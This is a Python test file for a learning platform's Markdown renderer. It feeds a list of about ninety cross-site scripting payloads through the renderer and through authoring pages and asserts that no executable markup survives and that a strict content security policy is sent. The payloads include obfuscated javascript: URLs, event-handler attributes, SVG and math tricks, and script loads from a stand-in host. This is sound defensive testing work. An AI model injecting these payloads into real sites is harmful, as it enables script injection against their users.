"""Hostile Markdown: nothing executable survives render_markdown, in the renderer or on the pages.

Each payload's output is parsed with html.parser (which decodes entities as a browser
does) and checked for forbidden tags, event-handler and style attributes, and URLs whose
scheme is not http, https or mailto.
"""

import re
from html.parser import HTMLParser

import pytest

from lms.core.markdown import ALLOWED_TAGS, render_markdown
from tests.catalog.authoring_helpers import course_form
from tests.catalog.factories import draft_course

URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "background", "data",
                  "poster", "cite", "longdesc", "lowsrc", "dynsrc", "srcdoc", "content"}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_IGNORED_BY_BROWSERS = re.compile(r"[\x00-\x20\x7f]")  # browsers drop these when reading a scheme

PAYLOADS = [
    # script tags in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="//evil.example/x.js"></script>',
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alert) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="#" onclick="alert(1)">x</a>',
    "<p onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss onafterscriptexecute=alert(1)>x</xss>",
    # javascript:, vbscript: and data: URLs in HTML links and images
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    '&#0000058alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript:alert&#40;1&#41;)",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](x \"a\" onerror=\"alert(1)\")",
    # reference links and autolinks
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: JaVaScRiPt:alert(1) \"t\"",
    "![x][ref]\n\n[ref]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # Markdown extensions that write attributes (attr_list comes with "extra")
    '[x](https://example.org){: onclick="alert(1)" }',
    '# Heading {: onmouseover="alert(1)" style="x" }',
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    # svg, math, iframe, object, embed, style, meta, base, form and friends
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    # HTML comments and broken tags
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)"',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href=javascript:alert(1)>x",
    "</p><script>alert(1)</script><p>",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []  # (tag, {attribute: value})

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def url_is_safe(value: str) -> bool:
    """True for a relative URL or one whose scheme is http, https or mailto."""
    match = _SCHEME.match(_IGNORED_BY_BROWSERS.sub("", value).lower())
    return match is None or match.group(1) in SAFE_SCHEMES


def executable_markup(html: str, allowed_tags=ALLOWED_TAGS) -> list[str]:
    """Everything in `html` a browser could run: tags outside the allow-list, on* and style
    attributes, and URLs with another scheme."""
    parser = _Collector()
    parser.feed(html)
    parser.close()
    found = []
    for tag, attributes in parser.tags:
        if tag not in allowed_tags:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name == "style":
                found.append(f"<{tag} {name}>")
            elif name in URL_ATTRIBUTES and not all(url_is_safe(part.strip().split(" ")[0])
                                                   for part in value.split(",")):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def test_there_are_at_least_fifty_distinct_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


def test_the_checker_itself_sees_what_it_must():
    assert executable_markup('<a href="&#106;avascript:alert(1)">x</a>') == [
        "<a href='javascript:alert(1)'>"]
    assert executable_markup("<script>x</script><p onclick=y>z</p>") == ["<script>", "<p onclick>"]
    assert executable_markup('<a href="java\tscript:x">') and not executable_markup('<a href="/x">')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_rendering(payload):
    html = str(render_markdown(payload))
    assert executable_markup(html) == [], html
    # the same payload inside ordinary text and lists
    assert executable_markup(str(render_markdown(f"Intro **text**\n\n- {payload}\n\n> {payload}"))) == []


def test_safe_markdown_keeps_its_meaning():
    html = str(render_markdown(
        "## Aims\n\n[site](https://example.org) [mail](mailto:a@example.org) [page](/courses)\n\n"
        "![chart](https://example.org/c.png)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`"))
    for piece in ('<h2>Aims</h2>', 'href="https://example.org"', 'href="mailto:a@example.org"',
                  'href="/courses"', 'src="https://example.org/c.png"', "<table>", "<code>code</code>"):
        assert piece in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_raw_html_keeps_only_allowed_tags():
    html = str(render_markdown('<b>bold</b> <span class="x" id="y">s</span> <https://example.org> 5 < 6'))
    assert html == ('<p><b>bold</b> <span>s</span> <a href="https://example.org" rel="noopener noreferrer nofollow">'
                    "https://example.org</a> 5 &lt; 6</p>")


# On the pages ---------------------------------------------------------------------------------


def page_problems(page: str) -> list[str]:
    """Executable markup on a whole page: inline scripts (a <script> must have src and no
    body), on* and style attributes, unsafe URLs. The layout's own tags are allowed."""
    found = executable_markup(page, allowed_tags=_AnyTag())
    inline = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page, flags=re.IGNORECASE)
    return found + inline


class _AnyTag:
    """Pages have forms, inputs, scripts with src …: only attributes and URLs are judged there."""

    def __contains__(self, tag):
        return True


@pytest.fixture
def author(world, login_as, db):
    world["author"].language = "en"
    db.session.flush()
    return login_as("author")


HOSTILE_DESCRIPTION = "\n\n".join(PAYLOADS)


def test_a_hostile_description_renders_safely_on_the_preview_page(client, world, author, db):
    response = client.post("/author/courses/new", data=course_form(
        action="preview", description_md=HOSTILE_DESCRIPTION, content_md=HOSTILE_DESCRIPTION))
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "markdown-preview" in page
    assert page_problems(page) == []
    scripts = re.findall(r"<script[^>]*>", page)
    assert scripts and all("src=" in tag for tag in scripts)


def test_a_hostile_course_renders_safely_on_the_course_page(client, world, author, db):
    course = draft_course(world["institute"], description=HOSTILE_DESCRIPTION, content=HOSTILE_DESCRIPTION,
                          title_en='<script>alert("title")</script>')
    page = client.get(f"/author/courses/{course.id}").get_data(as_text=True)
    assert page_problems(page) == []
    assert '&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;' in page


def test_every_response_carries_the_content_security_policy(client, world, author, db):
    mine = draft_course(world["institute"], code="T-CSP-1")
    theirs = draft_course(world["other_institute"], code="T-CSP-2")
    responses = [client.get(path) for path in (
        "/author/", "/author/courses/new", "/author/upload", f"/author/courses/{mine.id}",
        f"/author/courses/{mine.id}/edit", f"/author/courses/{mine.id}/course-file",
        f"/author/courses/{theirs.id}", "/author/courses/999999")]
    responses.append(client.post("/author/courses/new", data=course_form(action="preview")))
    responses.append(client.post(f"/author/courses/{mine.id}/publish"))
    client.post("/logout")
    responses.append(client.get("/author/"))
    assert [r.status_code for r in responses] == [200, 200, 200, 200, 200, 200, 404, 404, 200, 302, 302]
    for response in responses:
        policy = response.headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "style-src 'self'" in policy
        assert "unsafe-inline" not in policy
